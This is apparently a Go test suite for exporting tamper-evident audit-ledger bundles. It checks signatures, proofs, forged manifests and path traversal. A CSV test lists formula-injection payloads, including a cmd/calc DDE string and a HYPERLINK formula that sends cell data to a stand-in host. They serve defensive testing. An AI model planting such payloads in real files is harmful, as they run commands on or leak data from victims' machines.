package bundle_test

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"ambit/audit"
	"ambit/audit/bundle"
	"ambit/db"
	"ambit/db/seal"
	"ambit/policy"
)

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func open(t *testing.T) *audit.Ledger {
	t.Helper()
	dir := t.TempDir()
	box, err := seal.Open(filepath.Join(dir, "key"), rand.Reader)
	must(t, err)
	d, err := db.Open(t.Context(), dir, db.Options{})
	must(t, err)
	l, err := audit.Open(t.Context(), audit.Options{DB: d, Box: box, Now: time.Now, Rand: rand.Reader})
	must(t, err)
	t.Cleanup(func() { must(t, errors.Join(l.Close(context.Background()), d.Close())) })
	return l
}

// source is a ledger as an export reads it.
type source struct {
	t *testing.T
	l *audit.Ledger
	q audit.Query
	c audit.Checkpoint
}

func (s *source) Events(fn func(string) error) error {
	s.q.Before = s.c.Size + 1
	return s.l.Each(s.t.Context(), s.q, 0, fn)
}

func (s *source) Proofs(seqs []int64) ([][]audit.Hash, error) {
	var out [][]audit.Hash
	for _, seq := range seqs {
		p, err := s.l.ProveUnder(s.t.Context(), s.c.Note, seq)
		if err != nil {
			return nil, err
		}
		out = append(out, p.Hashes)
	}
	return out, nil
}

// refusals is a ledger of 600 decisions, every other one a refusal.
func refusals(t *testing.T) *audit.Ledger {
	t.Helper()
	l := open(t)
	must(t, l.Commit(t.Context(), func(*db.Tx) (events []*audit.Event, _ error) {
		for i := range 600 {
			effect := policy.Allow
			if i%2 == 0 {
				effect = policy.Deny
			}
			events = append(events, &audit.Event{Type: "shell.exec", Phase: audit.PhaseDecision, Actor: audit.Actor{User: "ada@acme.test"}, Decision: &audit.Decision{ID: "dec_1", Effect: effect, Reason: "no"}})
		}
		return events, nil
	}))
	return l
}

// exported makes a bundle of the refusals among 600 decisions.
func exported(t *testing.T, format string) (dir, key string) {
	t.Helper()
	l := refusals(t)
	c, err := l.Sign(t.Context())
	must(t, err)
	must(t, l.Append(t.Context(), &audit.Event{Type: "a.b", Phase: audit.PhaseResult, Actor: audit.Actor{User: "ada@acme.test"}}))
	dir = filepath.Join(t.TempDir(), "evidence")
	m := bundle.Manifest{Ambit: "test", Filter: map[string]string{"effect": "deny"}, Through: c.Size, Checkpoint: c.Note}
	must(t, bundle.Write(dir, format, l.PublicKey(), &m, &source{t, l, audit.Query{Effect: "deny"}, c}))
	return dir, l.PublicKey()
}

func TestABundleProvesEveryEventInIt(t *testing.T) {
	for _, format := range bundle.Formats() {
		dir, key := exported(t, format)
		m, c, err := bundle.Check(dir, key)
		if err != nil || m.Events != 300 || m.FirstSeq != 1 || m.LastSeq != 599 || c.Size != 600 {
			t.Fatalf("%s: %+v, %+v, %v", format, m, c, err)
		}
		raw, err := os.ReadFile(filepath.Join(dir, bundle.FileName(format)))
		must(t, err)
		want := 300
		if format == bundle.CSV {
			want++
		}
		if n := bytes.Count(raw, []byte("\n")); n != want {
			t.Errorf("%s: %d lines, want %d", format, n, want)
		}
	}
}

// zipped makes an archive of the refusals among 600 decisions, and opens it as whoever gets it does.
func zipped(t *testing.T, format string, src func(bundle.Source) bundle.Source) (dir, key string, err error) {
	t.Helper()
	l := refusals(t)
	c, err := l.Sign(t.Context())
	must(t, err)
	must(t, l.Append(t.Context(), &audit.Event{Type: "a.b", Phase: audit.PhaseResult, Actor: audit.Actor{User: "ada@acme.test"}}))
	var out bytes.Buffer
	m := bundle.Manifest{Ambit: "test", MadeAt: time.Unix(1, 0).UTC(), Filter: map[string]string{"effect": "deny"}, Through: c.Size, Checkpoint: c.Note}
	if err := bundle.WriteZip(&out, format, l.PublicKey(), &m, src(&source{t, l, audit.Query{Effect: "deny"}, c})); err != nil {
		return "", "", err
	}
	z, err := zip.NewReader(bytes.NewReader(out.Bytes()), int64(out.Len()))
	must(t, err)
	dir = t.TempDir()
	must(t, os.CopyFS(dir, z))
	return filepath.Join(dir, bundle.ZipFolder), l.PublicKey(), nil
}

func TestAnArchiveOpensToABundle(t *testing.T) {
	for _, format := range bundle.Formats() {
		dir, key, err := zipped(t, format, func(s bundle.Source) bundle.Source { return s })
		must(t, err)
		m, c, err := bundle.Check(dir, key)
		if err != nil || m.Events != 300 || m.FirstSeq != 1 || m.LastSeq != 599 || c.Size != 600 || m.Filter["effect"] != "deny" {
			t.Fatalf("%s: %+v, %+v, %v", format, m, c, err)
		}
		folder, _ := exported(t, format)
		same, err := os.ReadDir(folder)
		must(t, err)
		have, err := os.ReadDir(dir)
		must(t, err)
		if len(have) != len(same) {
			t.Errorf("%s: %d files, a folder has %d", format, len(have), len(same))
		}
	}
}

// shrinking has fewer events each time that it is read, as a ledger of which retention removes some.
type shrinking struct {
	bundle.Source
	gone int
}

func (s *shrinking) Events(fn func(string) error) error {
	left := s.gone
	s.gone++
	return s.Source.Events(func(event string) error {
		if left--; left >= 0 {
			return nil
		}
		return fn(event)
	})
}

func TestAnArchiveIsOfOneLedger(t *testing.T) {
	_, _, err := zipped(t, bundle.CSV, func(s bundle.Source) bundle.Source { return &shrinking{Source: s} })
	if err == nil || !strings.Contains(err.Error(), "removed while they were exported") {
		t.Fatalf("an archive whose files disagree: %v", err)
	}
}

// Whoever changes anything in a bundle, hashes in the manifest included, is found out.
func TestAChangedBundleIsNoticed(t *testing.T) {
	good, key := exported(t, bundle.CSV)
	edit := func(name string, change func(string) string) func(t *testing.T, dir string) {
		return func(t *testing.T, dir string) {
			path := filepath.Join(dir, name)
			raw, err := os.ReadFile(path)
			must(t, err)
			changed := change(string(raw))
			if changed == string(raw) {
				t.Fatal("nothing was changed")
			}
			must(t, os.WriteFile(path, []byte(changed), 0o600))
		}
	}
	// rehash makes the manifest fit the files again, as whoever forges a bundle would.
	rehash := func(t *testing.T, dir string) {
		var m bundle.Manifest
		raw, err := os.ReadFile(filepath.Join(dir, bundle.ManifestFile))
		must(t, err)
		must(t, json.Unmarshal(raw, &m))
		for name := range m.Files {
			content, err := os.ReadFile(filepath.Join(dir, name))
			must(t, err)
			sum := sha256.Sum256(content)
			m.Files[name] = bundle.File{SHA256: hex.EncodeToString(sum[:]), Bytes: int64(len(content))}
		}
		raw, err = json.Marshal(m)
		must(t, err)
		must(t, os.WriteFile(filepath.Join(dir, bundle.ManifestFile), raw, 0o600))
	}
	dropLine := func(text string) string { _, rest, _ := strings.Cut(text, "\n"); return rest }
	for name, steps := range map[string][]func(*testing.T, string){
		"an event changed":           {edit("events.jsonl", func(s string) string { return strings.Replace(s, "ada@", "eve@", 1) })},
		"an event changed, rehashed": {edit("events.jsonl", func(s string) string { return strings.Replace(s, "ada@", "eve@", 1) }), rehash},
		"the CSV changed":            {edit("events.csv", func(s string) string { return strings.Replace(s, "ada@", "eve@", 1) })},
		"an event dropped":           {edit("events.jsonl", dropLine), rehash},
		"an event and its proof dropped": {
			edit("events.jsonl", dropLine), edit("proofs.jsonl", dropLine), rehash,
		},
		"the count forged as well": {edit("events.jsonl", dropLine), edit("proofs.jsonl", dropLine), edit(bundle.ManifestFile, func(s string) string { return strings.Replace(s, `"events": 300`, `"events": 299`, 1) }), rehash},
		"a proof changed":          {edit("proofs.jsonl", func(s string) string { return strings.Replace(s, `"hashes":["`, `"hashes":["A`, 1) }), rehash},
		"two events exchanged": {edit("events.jsonl", func(s string) string {
			a, rest, _ := strings.Cut(s, "\n")
			b, rest, _ := strings.Cut(rest, "\n")
			return b + "\n" + a + "\n" + rest
		}), rehash},
		"a checkpoint of one's own":  {edit(bundle.ManifestFile, func(s string) string { return strings.Replace(s, `\n600\n`, `\n700\n`, 1) })},
		"a longer reach than signed": {edit(bundle.ManifestFile, func(s string) string { return strings.Replace(s, `"through": 600`, `"through": 9999`, 1) })},
		"a file out of the folder":   {edit(bundle.ManifestFile, func(s string) string { return strings.Replace(s, `"events.csv"`, `"../x"`, 1) })},
		"a file is missing":          {func(t *testing.T, dir string) { must(t, os.Remove(filepath.Join(dir, "proofs.jsonl"))) }},
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			must(t, os.CopyFS(dir, os.DirFS(good)))
			for _, step := range steps {
				step(t, dir)
			}
			if m, _, err := bundle.Check(dir, key); err == nil {
				t.Fatalf("it passed: %+v", m)
			}
		})
	}
	if _, _, err := bundle.Check(good, strings.Replace(key, "ambit-ledger", "other-ledger", 1)); err == nil {
		t.Fatal("another ledger's key was taken")
	}
}

func TestBundlesNeedAnEmptyFolder(t *testing.T) {
	dir := t.TempDir()
	must(t, os.WriteFile(filepath.Join(dir, "x"), nil, 0o600))
	if err := bundle.Write(dir, bundle.JSONL, "", &bundle.Manifest{}, &source{}); err == nil {
		t.Fatal("it was written over something")
	}
}

// Whoever chooses a command or a name must not run anything on the machine of whoever opens the export in a spreadsheet.
func TestCSVHoldsNoFormulas(t *testing.T) {
	attacks := []string{
		`=cmd|' /C calc'!A0`, `+1+1`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "\n=1+1", `|calc`, `%0A=1`, `"=1+1"`, `=HYPERLINK("http://x.test/?"&A1,"x")`, "＝1+1",
	}
	var out bytes.Buffer
	enc, err := bundle.NewEncoder(bundle.CSV, &out)
	must(t, err)
	for i, text := range attacks {
		properties, err := json.Marshal(map[string]string{"command": text})
		must(t, err)
		event, err := json.Marshal(&audit.Event{
			ID: "evt_1", Seq: int64(i + 1), Time: time.Unix(1, 0), Type: text, Phase: "decision", Repository: text, Cwd: text, Session: text,
			Actor: audit.Actor{User: text, Groups: []string{text}}, Agent: &audit.Agent{Name: text}, Action: &audit.Action{Name: text, Properties: properties},
			Decision: &audit.Decision{Reason: text}, Change: &audit.Change{Object: text, ID: text, After: properties},
		})
		must(t, err)
		must(t, enc.Encode(string(event)))
	}
	must(t, enc.Flush())
	rows, err := csv.NewReader(&out).ReadAll()
	must(t, err)
	if len(rows) != len(attacks)+1 || len(rows[0]) != len(bundle.Columns()) {
		t.Fatalf("%d rows of %d columns", len(rows), len(rows[0]))
	}
	for i, row := range rows[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n|%") || strings.HasPrefix(cell, "＝") {
				t.Errorf("attack %q: column %s begins a formula: %q", attacks[i], rows[0][j], cell)
			}
		}
		if target := row[19]; strings.TrimPrefix(target, "'") != strings.ReplaceAll(attacks[i], "\r", "") {
			t.Errorf("attack %q became %q", attacks[i], target)
		}
	}
}

func TestAnEmptyCSVHasItsHeader(t *testing.T) {
	var out bytes.Buffer
	enc, err := bundle.NewEncoder(bundle.CSV, &out)
	must(t, err)
	must(t, enc.Flush())
	if !strings.HasPrefix(out.String(), "seq,time,id,type,phase,person,") {
		t.Fatalf("%q", out.String())
	}
	if _, err := bundle.NewEncoder("xml", &out); err == nil {
		t.Fatal("an unknown format was taken")
	}
}
